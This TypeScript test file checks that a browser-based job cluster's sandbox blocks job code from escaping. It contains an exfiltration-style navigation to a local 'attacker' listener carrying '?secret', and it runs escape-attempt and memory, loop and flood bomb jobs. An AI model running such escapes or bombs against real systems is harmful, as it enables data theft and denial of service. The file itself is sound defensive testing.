/*
 * Job code in a browser against whoever listens outside, and against the browser itself. What counts is what the attacker
 * hears, what the browser's own log of its network says, and what becomes of the node and of other jobs.
 */

import { readFileSync, writeFileSync } from 'node:fs';
import { stripTypeScriptTypes } from 'node:module';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { Attacker } from './fixtures/attacker.ts';
import { Cluster, jobFile, type JoinedTab, resultOf } from './fixtures/cluster.ts';
import { DonatePage } from './fixtures/donate.ts';
import { until } from './fixtures/until.ts';

const SECRET_NAME = 'attacker.test';
const SANDBOX = '/sandbox';

let cluster: Cluster;
let attacker: Attacker;
let tab: JoinedTab;
let netLog: string;

beforeAll(async () => {
  cluster = await Cluster.start();
  attacker = await Attacker.listen();
  netLog = path.join(cluster.dataDirectory, 'net-log.json');
  const browser = await cluster.addBrowser([`--log-net-log=${netLog}`]);
  tab = await cluster.addTab({ browser });
});

afterAll(async () => {
  await cluster.stop();
  await attacker[Symbol.asyncDispose]();
});

function target() {
  return {
    tcp: `127.0.0.1:${attacker.tcpPort}`,
    udp: `127.0.0.1:${attacker.udpPort}`,
    name: SECRET_NAME,
    own: cluster.address.url,
  };
}

/** Every way out that was found open, and everything that came through. */
function waysOut(outcomes: Readonly<Record<string, string>>): unknown[] {
  return [...Object.entries(outcomes).filter(([, outcome]) => !outcome.startsWith('closed')), ...attacker.hits];
}

/** A job that works in small steps until it is told that it is enough. */
function startSteady(name: string, maxRetries: number = 0) {
  const enough = path.join(cluster.dataDirectory, `enough-${name}`);
  const job = cluster.startJob('bombs.ts', { args: { bomb: 'steady', enough, maxRetries }, name });
  const row = async () => (await cluster.jobs()).find((each) => each.name === name);
  return {
    /** Waits until it has done so many steps more. */
    goesOn: async (steps: number = 5) => {
      const before = (await row())?.finished ?? 0;
      await until(`${name} goes on`, async () => ((await row())?.finished ?? 0) >= before + steps);
    },
    finish: async () => {
      writeFileSync(enough, '');
      return resultOf(await job.end()) as { done: number; wrong: number };
    },
  };
}

describe('job code in a browser', () => {
  it('T1 has no way out: every attempt fails, and nothing reaches who listens outside', async () => {
    const outcomes = (await cluster.result('escapes.ts', { args: target() })) as Record<string, string>;
    expect(Object.keys(outcomes).length).toBeGreaterThan(35);
    expect(waysOut(outcomes)).toEqual([]);
    // The words it said into a channel changed nothing either.
    await cluster.nodeIs(tab.node.name, 'connected');
  });

  it('T1 has none by the policy alone, in a worker whose realm nobody hardened', async () => {
    const steady = startSteady('holds the frame');
    await steady.goesOn(1);
    const attempts = stripTypeScriptTypes(readFileSync(jobFile('escape-attempts.ts'), 'utf8'));
    const worker = `import(URL.createObjectURL(new Blob([${JSON.stringify(attempts)}], { type: 'text/javascript' })))
      .then((module) => module.tryAll(${JSON.stringify(target())}))
      .then((outcomes) => postMessage({ outcomes }), (error) => postMessage({ error: String(error) }));`;
    const { outcomes, error } = await tab.page.tab.evaluateInFrame<{
      outcomes?: Record<string, string>;
      error?: string;
    }>(
      SANDBOX,
      `new Promise((resolve) => {
        const worker = new Worker(${JSON.stringify(`data:text/javascript;base64,${Buffer.from(worker).toString('base64')}`)});
        worker.onmessage = ({ data }) => { if (data.outcomes || data.error) resolve(data); };
      })`,
    );
    expect(error).toBeUndefined();
    expect(Object.keys(outcomes ?? {}).length).toBeGreaterThan(35);
    expect(waysOut(outcomes ?? {})).toEqual([]);
    expect((await steady.finish()).wrong).toBe(0);
  });

  it('T1 two workers of a frame do not hear each other', async () => {
    const steady = startSteady('holds the frame again');
    await steady.goesOn(1);
    const heard = await tab.page.tab.evaluateInFrame<string>(
      SANDBOX,
      `new Promise((resolve) => {
        const start = (code) => new Worker('data:text/javascript,' + encodeURIComponent(code));
        const listener = start("new BroadcastChannel('x').onmessage = () => postMessage('heard'); postMessage('ready')");
        listener.onmessage = ({ data }) => {
          if (data === 'heard') return resolve('heard');
          const speaker = start("new BroadcastChannel('x').postMessage(1); postMessage('said')");
          // What was said would be there long before this round trip.
          speaker.onmessage = () => setTimeout(() => resolve('silence'), 300);
        };
      })`,
    );
    expect(heard).toBe('silence');
    await steady.finish();
  });

  it('T1 a frame that is led elsewhere goes nowhere, and is built anew', async () => {
    const steady = startSteady('led elsewhere', 3);
    await steady.goesOn();
    // As the document's own script could do, if it were taken over.
    await tab.page.tab.evaluateInFrame(SANDBOX, `void (location.href = 'http://${target().tcp}/navigation?secret')`);
    await steady.goesOn(20);
    expect((await steady.finish()).wrong).toBe(0);
    // Chromium prepares a connection before it asks the policy: no word of the address went over it.
    expect(attacker.hits.filter((hit) => hit !== 'tcp: connected')).toEqual([]);
    attacker.hits.length = 0;
    await cluster.nodeIs(tab.node.name, 'connected');
  });

  it.each([
    ['buffers', 'OutOfMemoryError'],
    ['buffers slowly', 'OutOfMemoryError'],
    ['loop', 'RuntimeLimitError'],
    ['flood', 'WorkerCrashedError'],
    ['heap', 'OutOfMemoryError'],
  ])(
    'T1 a bomb of %s ends alone: its submitter gets %s, the other job and the node live on',
    async (bomb, error) => {
      const steady = startSteady(`beside ${bomb}`);
      await steady.goesOn(1);
      const result = await cluster.run('bombs.ts', { args: { bomb }, name: bomb });
      expect(resultOf(result)).toMatchObject({ error, after: 'fine' });
      await steady.goesOn();
      // None of its tasks may be retried: they all lived through it.
      expect((await steady.finish()).wrong).toBe(0);
      const [node] = (await cluster.nodes()).filter(({ role }) => role === 'tab');
      // The same session all along: page and raylet did not go down.
      expect(node).toMatchObject({ id: tab.node.id, state: 'connected' });
      expect(tab.page.tab.hasCrashed).toBe(false);
    },
    170_000,
  );

  it('B1 a task that prints without end is cut short, not the node', async () => {
    const { stdout, stderr } = await cluster.run('bombs.ts', { args: { bomb: 'chatter', lines: 300_000 } });
    expect(JSON.parse(stdout.trimEnd().split('\n').at(-1) ?? '')).toEqual({ lines: 300_000 });
    expect(stdout + stderr).toMatch(/\d+ lines were dropped/);
    await cluster.nodeIs(tab.node.name, 'connected');
  });

  it('T1 not even a name was looked up, nor a connection prepared by a worker', async () => {
    await tab.browser.close();
    const log = readFileSync(netLog, 'utf8');
    expect(log).toContain('127.0.0.1');
    expect(log).not.toContain(SECRET_NAME);
    expect(attacker.hits).toEqual([]);
  });
});

describe('a browser in which the sandbox does not start', () => {
  it('T1 says so, and gives what it was given to others', async () => {
    const browser = await cluster.addBrowser(['--host-resolver-rules=MAP *.localhost 127.0.0.1:9']);
    const page = await DonatePage.open(browser, cluster.address.donateUrl);
    await page.start(cluster);
    const job = cluster.startJob('examples/hello/job.ts', { args: { n: 5 }, name: 'needs a sandbox' });
    await page.phaseIs('failed', 60_000);
    expect(await page.tab.evaluate<string>('document.body.innerText')).toMatch(/sandbox/);
    await cluster.addHost({ name: 'rescuer' });
    expect(resultOf(await job.end())).toMatchObject({ total: 30 });
  });
});
